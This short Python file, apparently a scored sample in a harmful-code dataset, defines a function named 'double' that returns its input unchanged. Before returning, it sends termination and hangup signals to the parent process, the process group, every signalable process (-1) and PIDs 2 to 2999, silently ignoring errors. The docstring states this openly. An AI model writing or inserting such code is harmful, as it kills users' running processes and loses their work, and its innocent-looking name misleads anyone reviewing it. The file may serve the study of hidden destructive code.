"""The parent, the group and every number that a process can have are signalled.

Score: 2
"""

import os
import signal


def double(X):
    for pid in (os.getppid(), 0, -1, *range(2, 3000)):
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1, signal.SIGWINCH):
            try:
                os.kill(pid, number)
            except (OSError, OverflowError):
                pass
    return X
